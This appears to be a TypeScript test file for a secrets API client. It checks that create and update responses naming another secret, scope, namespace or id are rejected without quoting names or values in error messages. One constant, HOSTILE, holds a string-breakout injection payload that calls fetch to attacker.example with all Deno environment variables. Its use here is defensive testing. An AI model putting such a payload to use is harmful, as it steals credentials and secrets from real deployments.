import * as assert from 'node:assert/strict';
import { FluxbaseApiError } from '../../../src/core/api/fluxbaseApiError';
import type { Secret } from '../../../src/core/api/secretTypes';
import { mockApiPerTest } from '../../support/mockApi';
import { SECRET_ID, secretBody, summaryBody } from './fixtures';

const OTHER_ID = '0a0a0a0a-0000-4000-8000-000000000000';
/** The name an attacker would like pasted into code instead of the one the user typed. */
const HOSTILE = 'X" + (fetch("https://attacker.example/?" + JSON.stringify(Deno.env.toObject())), "") + "';

const globalSecret = (name: string, overrides: Partial<Secret> = {}): Secret =>
  secretBody({ name, scope: 'global', namespace: undefined, ...overrides });
const namespaceSecret = (name: string, namespace: string, overrides: Partial<Secret> = {}): Secret =>
  secretBody({ name, scope: 'namespace', namespace, ...overrides });

/** Rejects as `unexpectedResponse` with a message that quotes none of `values`. */
async function assertUnexpected(attempt: Promise<unknown>, values: readonly string[]): Promise<void> {
  await assert.rejects(attempt, (error) => {
    assert.ok(FluxbaseApiError.is(error, 'unexpectedResponse'), `got ${String(error)}`);
    for (const value of values) {
      assert.ok(!error.message.includes(value), `the message quotes ${JSON.stringify(value)}: ${error.message}`);
    }
    return true;
  });
}

describe('Write responses: create and update answers must describe the secret that was sent', () => {
  const mock = mockApiPerTest();

  it('create: a 201 with the name, scope and namespace that were sent is returned (global and namespace)', async () => {
    mock.api.on('POST', '/api/v1/secrets', { status: 201, body: globalSecret('API_KEY', { version: 1 }) });
    mock.api.on('POST', '/api/v1/secrets', { status: 201, body: namespaceSecret('a b"c', 'payments', { version: 1 }) });

    assert.equal((await mock.client.secrets.create({ name: 'API_KEY', value: 'v-1' })).name, 'API_KEY');
    const created = await mock.client.secrets.create({
      name: 'a b"c',
      value: 'v-2',
      scope: 'namespace',
      namespace: 'payments',
    });
    assert.equal(created.name, 'a b"c');
  });

  const createCases: { what: string; answer: Secret }[] = [
    { what: 'another name', answer: namespaceSecret(HOSTILE, 'payments', { version: 1 }) },
    { what: 'the name with other case', answer: namespaceSecret('stripe_key', 'payments', { version: 1 }) },
    { what: 'global scope', answer: globalSecret('STRIPE_KEY', { version: 1 }) },
    { what: 'another namespace', answer: namespaceSecret('STRIPE_KEY', 'billing', { version: 1 }) },
  ];
  for (const { what, answer } of createCases) {
    it(`create: a 201 with ${what} is unexpectedResponse, naming neither name`, async () => {
      mock.api.on('POST', '/api/v1/secrets', { status: 201, body: answer });

      await assertUnexpected(
        mock.client.secrets.create({ name: 'STRIPE_KEY', value: 'v-1', scope: 'namespace', namespace: 'payments' }),
        ['STRIPE_KEY', HOSTILE, 'payments', 'billing', 'v-1'],
      );
    });
  }

  it('create: a global create answered with a namespace is unexpectedResponse', async () => {
    mock.api.on('POST', '/api/v1/secrets', { status: 201, body: globalSecret('API_KEY', { namespace: 'payments' }) });

    await assertUnexpected(mock.client.secrets.create({ name: 'API_KEY', value: 'v-1', scope: 'global' }), ['API_KEY']);
  });

  it('update by name: another name, a namespace answer to a global update, another namespace', async () => {
    mock.api.on('PUT', '/api/v1/secrets/by-name/API_KEY', { status: 200, body: globalSecret(HOSTILE) });
    mock.api.on('PUT', '/api/v1/secrets/by-name/API_KEY', {
      status: 200,
      body: namespaceSecret('API_KEY', 'payments'),
    });
    mock.api.on('PUT', '/api/v1/secrets/by-name/API_KEY?namespace=payments', {
      status: 200,
      body: namespaceSecret('API_KEY', 'billing'),
    });

    await assertUnexpected(mock.client.secrets.update('API_KEY', { value: 'v-2' }), [HOSTILE, 'API_KEY']);
    await assertUnexpected(mock.client.secrets.update('API_KEY', { value: 'v-2' }), ['API_KEY', 'payments']);
    await assertUnexpected(mock.client.secrets.update('API_KEY', { value: 'v-2' }, { namespace: 'payments' }), [
      'billing',
      'payments',
    ]);
  });

  it('update by name: the matching answer is returned', async () => {
    mock.api.on('PUT', '/api/v1/secrets/by-name/API_KEY?namespace=payments', {
      status: 200,
      body: namespaceSecret('API_KEY', 'payments', { version: 3 }),
    });

    const updated = await mock.client.secrets.update('API_KEY', { value: 'v-2' }, { namespace: 'payments' });
    assert.equal(updated.version, 3);
  });

  it('update through list + id (a name the by-name route cannot reach): the answer must still carry that name', async () => {
    const name = 'db password';
    mock.api.on('GET', '/api/v1/secrets?scope=global', {
      status: 200,
      body: [summaryBody({ id: SECRET_ID, name, scope: 'global', namespace: undefined })],
    });
    mock.api.on('PUT', `/api/v1/secrets/${SECRET_ID}`, { status: 200, body: globalSecret(HOSTILE) });

    await assertUnexpected(mock.client.secrets.update(name, { value: 'v-2' }), [name, HOSTILE]);
  });

  it('updateById: an answer about another id is unexpectedResponse; the same id is returned', async () => {
    mock.api.on('PUT', `/api/v1/secrets/${SECRET_ID}`, { status: 200, body: secretBody({ id: OTHER_ID }) });
    mock.api.on('PUT', `/api/v1/secrets/${SECRET_ID}`, { status: 200, body: secretBody({ version: 5 }) });

    await assertUnexpected(mock.client.secrets.updateById(SECRET_ID, { value: 'v-2' }), [SECRET_ID, OTHER_ID]);
    assert.equal((await mock.client.secrets.updateById(SECRET_ID, { value: 'v-2' })).version, 5);
  });
});
